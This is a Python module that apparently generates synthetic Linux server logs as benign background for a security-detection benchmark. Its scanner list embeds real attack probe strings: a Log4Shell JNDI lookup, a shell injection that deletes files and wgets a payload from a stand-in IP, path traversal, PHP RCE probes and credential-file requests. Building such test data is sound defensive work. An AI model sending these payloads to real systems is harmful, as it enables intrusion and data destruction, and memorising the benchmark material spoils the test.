"""Linux servers of the office: cron, packages, Ansible, the internet's noise at sshd and nginx."""

import random
from collections.abc import Iterator, Sequence
from datetime import datetime, timedelta
from typing import Final

from bench.benign.scene import LINUX, OFFICE_IP, WORDS, Calendar, Machine, moments

Line = tuple[datetime, str]

_SYSTEM: Final = (
    ("any", 24, "CRON", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"),
    ("any", 288, "CRON", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"),
    (
        "night",
        1,
        "CRON",
        "(root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))",
    ),
    ("night", 1, "CRON", "(root) CMD (/usr/bin/certbot -q renew)"),
    ("night", 1, "CRON", "(postgres) CMD (pg_dump -Fc app | gzip > /var/backups/app.dump.gz)"),
    (
        "any",
        2,
        "CRON",
        "(root) CMD (curl -fsS -m 10 --retry 5 https://hc-ping.example/5d0c > /dev/null)",
    ),
    ("night", 1, "systemd", "Starting Daily apt download activities..."),
    ("night", 1, "systemd", "Finished Daily apt upgrade and clean activities."),
    ("night", 1, "systemd", "Starting Rotate log files..."),
    ("any", 6, "systemd", "Started Session {n} of User deploy."),
    ("any", 2, "certbot", "Certificate not yet due for renewal"),
    (
        "any",
        20,
        "dockerd",
        'time="{iso}" level=info msg="ignoring event" container={hex} module=libcontainerd namespace=moby topic=/tasks/delete type="*events.TaskDelete"',
    ),
    (
        "any",
        8,
        "kernel",
        "[{n}.123456] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.{b} DST=10.30.2.20 LEN=40 TTL=240 ID=54321 PROTO=TCP SPT=40112 DPT=23 WINDOW=1024 SYN",
    ),
    ("night", 1, "systemd", "apt-daily-upgrade.service: Deactivated successfully."),
    ("night", 0.3, "systemd", "Stopping OpenBSD Secure Shell server..."),
    (
        "night",
        0.3,
        "useradd",
        "new user: name=_{word}, UID=99{d}, GID=65534, home=/nonexistent, shell=/usr/sbin/nologin, from=none",
    ),
)
_SUDO: Final = (
    ("work", 3, "deploy", "/usr/bin/systemctl restart app.service"),
    ("work", 2, "deploy", "/usr/bin/docker compose up -d"),
    ("work", 1, "nora", "/usr/bin/apt-get update"),
    ("work", 1, "nora", "/usr/bin/apt-get -y upgrade"),
    ("work", 1, "nora", "/usr/bin/journalctl -u nginx --since today"),
    ("work", 1, "nora", "/usr/bin/tail -f /var/log/auth.log"),
    ("work", 0.4, "nora", "/usr/bin/vim /etc/ssh/sshd_config"),
    ("work", 0.4, "nora", "/usr/bin/crontab -e"),
    ("work", 0.3, "nora", "/usr/sbin/visudo"),
    ("work", 0.3, "nora", "/usr/bin/su -"),
    ("work", 0.3, "nora", "/usr/sbin/useradd -m -s /bin/bash trainee"),
    ("work", 0.3, "nora", "/usr/sbin/tcpdump -i eth0 -c 200 port 443"),
    (
        "work",
        0.2,
        "nora",
        "/usr/bin/curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc",
    ),
    ("work", 0.2, "nora", "/usr/bin/chmod u+s /usr/bin/fping"),
    ("work", 0.2, "nora", "/usr/sbin/iptables -L -n -v"),
    (
        "night",
        12,
        "ansible",
        "/bin/sh -c echo BECOME-SUCCESS-{hex8} ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-{n}.{n}-{n}-{n}/AnsiballZ_apt.py",
    ),
    (
        "night",
        6,
        "ansible",
        "/bin/sh -c echo BECOME-SUCCESS-{hex8} ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-{n}.{n}-{n}-{n}/AnsiballZ_systemd.py",
    ),
)
_EXECUTED: Final = (
    ("any", 24, "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"]),
    ("any", 12, "/usr/bin/curl", ["curl", "-fsS", "http://localhost:8080/healthz"]),
    (
        "night",
        6,
        "/usr/bin/python3.11",
        ["/usr/bin/python3", "/home/ansible/.ansible/tmp/AnsiballZ_setup.py"],
    ),
    ("night", 2, "/usr/bin/apt-get", ["apt-get", "-qq", "-y", "update"]),
    ("night", 1, "/usr/bin/gzip", ["gzip", "--rsyncable", "/var/backups/dpkg.status.0"]),
    ("work", 3, "/usr/bin/systemctl", ["systemctl", "status", "nginx"]),
    ("work", 1, "/usr/bin/wget", ["wget", "-q", "https://nginx.org/keys/nginx_signing.key"]),
    ("work", 1, "/usr/bin/id", ["id"]),
    ("work", 1, "/usr/bin/ss", ["ss", "-tlnp"]),
    ("work", 1, "/usr/bin/uname", ["uname", "-a"]),
    ("work", 0.5, "/usr/bin/nc.openbsd", ["nc", "-zv", "db01", "5432"]),
    ("work", 0.5, "/usr/bin/base64", ["base64", "-d", "tls.crt.b64"]),
    ("work", 0.5, "/usr/bin/chmod", ["chmod", "+x", "/usr/local/bin/deploy.sh"]),
    ("work", 0.3, "/usr/bin/cat", ["cat", "/etc/passwd"]),
    ("work", 0.3, "/usr/bin/find", ["find", "/", "-xdev", "-perm", "-4000", "-ls"]),
    ("work", 0.3, "/usr/bin/bash", ["bash", "-c", "curl -fsSL https://get.docker.com | sh"]),
)
_GUESSED: Final = (
    "root",
    "admin",
    "test",
    "ubuntu",
    "oracle",
    "postgres",
    "git",
    "user",
    "pi",
    "ftp",
)
_PAGES: Final = (
    (400, "GET", "/", 200),
    (200, "GET", "/{word}", 200),
    (80, "GET", "/static/app.{n}.js", 200),
    (60, "GET", "/api/v1/{word}?page={d}", 200),
    (30, "POST", "/api/v1/{word}", 201),
    (12, "GET", "/search?q=select+a+plan+from+our+{word}", 200),
    (4, "GET", "/search?q=union+of+{word}+and+1%3D1+promo", 200),
    (10, "POST", "/login", 302),
    (3, "POST", "/login", 401),
    (4, "GET", "/old/{word}.html", 404),
    (1, "GET", "/download?file=reports/{word}-2024.pdf", 200),
    (2, "GET", "/api/v1/{word}", 500),
    (1, "POST", "/admin/upload.php", 200),
    (2, "GET", "/wp-login.php", 200),
    (1, "POST", "/wp-login.php", 302),
)
_SCANNED: Final = (
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/actuator/health",
    "/cgi-bin/luci/;stok=/locale?form=country",
    "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/?x=${jndi:ldap://203.0.113.9/a}",
    "/..%2f..%2f..%2fetc/passwd",
    "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws",
    "/solr/admin/info/system",
    "/owa/auth/logon.aspx",
    "/HNAP1/",
    "/api/v1/pods",
    "/manager/html",
    "/.aws/credentials",
    "/config.json",
)
_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
)
_CRAWLERS: Final = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
)
_SCANNERS: Final = (
    "Mozilla/5.0 zgrab/0.x",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "-",
)


def each(seed: int, calendar: Calendar) -> Iterator[tuple[str, str]]:
    """The files of all Linux machines, and their text."""
    for machine in LINUX:
        draw = random.Random(f"{seed}:{machine.name}")
        yield f"linux/{machine.name}/auth.log", joined(_auth(machine, draw, calendar))
        yield f"linux/{machine.name}/syslog", joined(_system(machine, draw, calendar))
        yield f"linux/{machine.name}/audit.log", joined(_audit(draw, calendar))
        if machine.kind == "web":
            yield f"linux/{machine.name}/access.log", joined(_access(draw, calendar))


def joined(lines: Iterator[Line]) -> str:
    return "".join(f"{line}\n" for _, line in sorted(lines))


def _filled(draw: random.Random, text: str, when: datetime) -> str:
    known = {
        "n": str(draw.randrange(1000, 99999)),
        "d": str(draw.randrange(1, 9)),
        "b": str(draw.randrange(1, 254)),
        "hex": f"{draw.getrandbits(256):064x}",
        "hex8": f"{draw.getrandbits(32):08x}",
        "word": draw.choice(WORDS),
        "iso": when.isoformat(),
    }
    for name, value in known.items():
        text = text.replace("{" + name + "}", value)
    return text


def said(machine: Machine, draw: random.Random, when: datetime, program: str, text: str) -> Line:
    pid = "" if program in ("sudo", "kernel") else f"[{draw.randrange(700, 99999)}]"
    return (
        when,
        f"{when:%Y-%m-%dT%H:%M:%S.%f}+00:00 {machine.name} {program}{pid}: {_filled(draw, text, when)}",
    )


def _system(machine: Machine, draw: random.Random, calendar: Calendar) -> Iterator[Line]:
    for often, day, program, text in _SYSTEM:
        for when in moments(draw, calendar, often, day=day):
            yield said(machine, draw, when, program, text)


def _auth(machine: Machine, draw: random.Random, calendar: Calendar) -> Iterator[Line]:
    for when in moments(draw, calendar, "any", day=30):
        yield said(
            machine,
            draw,
            when,
            "CRON",
            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        )
        yield said(
            machine,
            draw,
            when + timedelta(seconds=1),
            "CRON",
            "pam_unix(cron:session): session closed for user root",
        )
    for often, day, user, command in _SUDO:
        for when in moments(draw, calendar, often, day=day):
            yield said(
                machine,
                draw,
                when,
                "sudo",
                f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}",
            )
            yield said(
                machine,
                draw,
                when,
                "sudo",
                f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1001)",
            )
    for user, ip, often, day in (
        ("deploy", "10.30.1.21", "work", 4),
        ("nora", "10.30.1.31", "work", 3),
        ("ansible", "10.30.2.10", "night", 6),
        ("nora", OFFICE_IP, "work", 1),
    ):
        for when in moments(draw, calendar, often, day=day):
            yield from _enters(machine, draw, when, user, ip)
    if machine.kind != "db":
        yield from _internet(machine, draw, calendar)


def _enters(
    machine: Machine, draw: random.Random, when: datetime, user: str, ip: str
) -> Iterator[Line]:
    port = draw.randrange(30000, 65000)
    if draw.random() < 0.04:
        yield said(
            machine,
            draw,
            when - timedelta(seconds=9),
            "sshd",
            f"Failed password for {user} from {ip} port {port} ssh2",
        )
    key = f"ssh2: ED25519 SHA256:{draw.getrandbits(200):050x}"
    yield said(
        machine, draw, when, "sshd", f"Accepted publickey for {user} from {ip} port {port} {key}"
    )
    yield said(
        machine,
        draw,
        when,
        "sshd",
        f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)",
    )
    later = when + timedelta(seconds=draw.randrange(5, 5000))
    yield said(machine, draw, later, "sshd", f"Disconnected from user {user} {ip} port {port}")


def _internet(machine: Machine, draw: random.Random, calendar: Calendar) -> Iterator[Line]:
    """What any address on the internet hears: guesses at names that are not there."""
    for when in moments(draw, calendar, "any", day=25):
        ip = f"{draw.choice(('203.0.113', '192.0.2', '198.51.100'))}.{draw.randrange(20, 254)}"
        for step in range(int(draw.paretovariate(0.9)) if draw.random() < 0.5 else 1):
            if step > 150:
                break
            user, port = draw.choice(_GUESSED), draw.randrange(30000, 65000)
            at = when + timedelta(seconds=2.4 * step)
            if user == "root":
                yield said(
                    machine,
                    draw,
                    at,
                    "sshd",
                    f"Failed password for root from {ip} port {port} ssh2",
                )
            else:
                yield said(machine, draw, at, "sshd", f"Invalid user {user} from {ip} port {port}")
                yield said(
                    machine,
                    draw,
                    at,
                    "sshd",
                    f"Failed password for invalid user {user} from {ip} port {port} ssh2",
                )
            yield said(
                machine,
                draw,
                at,
                "sshd",
                f"Connection closed by authenticating user {user} {ip} port {port} [preauth]",
            )
    for when in moments(draw, calendar, "any", day=15):
        yield said(
            machine,
            draw,
            when,
            "sshd",
            f"banner exchange: Connection from 203.0.113.{draw.randrange(1, 254)} port 55110: invalid format",
        )


def _audit(draw: random.Random, calendar: Calendar) -> Iterator[Line]:
    serial = draw.randrange(1000, 9000)
    chosen = [
        (when, exe, words)
        for often, day, exe, words in _EXECUTED
        for when in moments(draw, calendar, often, day=day)
    ]
    for when, exe, words in sorted(chosen):
        serial += 1
        auid = 1001 if when.hour in range(7, 17) else 4294967295
        yield executed(draw, when, exe, words, serial=serial, auid=auid, uid=0)


def executed(
    draw: random.Random,
    when: datetime,
    exe: str,
    words: Sequence[str],
    *,
    serial: int,
    auid: int,
    uid: int,
) -> Line:
    """A program starts, as auditd tells it."""
    head = f"msg=audit({when.timestamp():.3f}:{serial}):"
    comm = exe.rsplit("/", 1)[-1]
    ids = f"uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid}"
    arguments = " ".join(
        f"a{at}={word.encode().hex().upper()}" if " " in word else f'a{at}="{word}"'
        for at, word in enumerate(words)
    )
    text = (
        f'type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=900 pid={draw.randrange(1000, 60000)} auid={auid} {ids} tty=(none) ses=3 comm="{comm}" exe="{exe}" key="exec"\n'
        f"type=EXECVE {head} argc={len(words)} {arguments}\n"
        f'type=CWD {head} cwd="/root"\n'
        f'type=PATH {head} item=0 name="{exe}" inode=11 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0\n'
        f"type=PROCTITLE {head} proctitle={chr(0).join(words).encode().hex().upper()}"
    )
    return when, text


def _access(draw: random.Random, calendar: Calendar) -> Iterator[Line]:
    for day, method, path, status in _PAGES:
        for when in moments(draw, calendar, "any", day=day):
            ip = f"203.0.113.{draw.randrange(1, 120)}"
            yield request(draw, when, ip, method, path, status, draw.choice(_AGENTS))
    for when in moments(draw, calendar, "any", day=288):
        yield request(draw, when, "10.30.2.1", "GET", "/healthz", 200, "ELB-HealthChecker/2.0")
    for when in moments(draw, calendar, "any", day=120):
        yield request(
            draw,
            when,
            f"192.0.2.{draw.randrange(1, 9)}",
            "GET",
            "/{word}/{n}",
            draw.choice((200, 200, 404)),
            draw.choice(_CRAWLERS),
        )
    for when in moments(draw, calendar, "any", day=9):
        ip, agent = f"198.51.100.{draw.randrange(60, 254)}", draw.choice(_SCANNERS)
        for step in range(draw.choice((1, 1, 2, 4, len(_SCANNED)))):
            at = when + timedelta(seconds=0.7 * step)
            yield request(
                draw,
                at,
                ip,
                "GET",
                draw.choice(_SCANNED),
                draw.choice((404, 404, 404, 400, 301)),
                agent,
            )


def request(
    draw: random.Random, when: datetime, ip: str, method: str, path: str, status: int, agent: str
) -> Line:
    size = draw.randrange(120, 40_000)
    shown = _filled(draw, path, when)
    return (
        when,
        f'{ip} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "{method} {shown} HTTP/1.1" {status} {size} "-" "{agent}"',
    )
